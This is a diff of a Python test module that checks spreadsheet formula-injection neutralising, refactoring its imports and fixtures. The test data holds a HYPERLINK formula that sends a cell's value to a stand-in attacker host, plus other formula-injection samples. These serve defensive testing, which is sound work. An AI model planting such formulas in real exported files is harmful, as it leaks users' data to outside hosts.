@@ -23,10 +23,9 @@ from hailong.broker import Broker
 from hailong.spreadsheet import FORMULA_STARTS, neutral
 from hailong.topics import kiosk_topic
 from hub.admin.accounts import Accounts
-from tests.support import RawClient, RunningHub, hub_settings, sign_in, wait_until, write_toml
+from tests.support import PASSWORD, RawClient, RunningHub, hub_settings, sign_in, wait_until, write_toml
 from tests.support.hubdata import response
 
-PASSWORD = "mật khẩu đủ dài"
 # One label per dangerous first character: =, +, -, @, tab, carriage return.
 LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Quầy 1")'
 COUNTERS = [LINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+2", "\r=1+3"]
@@ -43,10 +42,9 @@ def test_neutral_quotes_exactly_the_formula_starts() -> None:
 
 @pytest.fixture(scope="module")
 def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningHub]:
-    from tests.conftest import _mosquitto_available
-    from tests.support import require
+    from tests.support import mosquitto_available, require
 
-    require("Mosquitto", _mosquitto_available(), "sudo apt-get install -y mosquitto")
+    require("Mosquitto", mosquitto_available(), "sudo apt-get install -y mosquitto")
     tmp = tmp_path_factory.mktemp("formulas")
     broker = Broker(tmp / "broker").start()
     roster = write_toml(tmp / "roster.toml", '[[offices]]\nid = "ubnd-a"\nname = "-UBND A"\n'
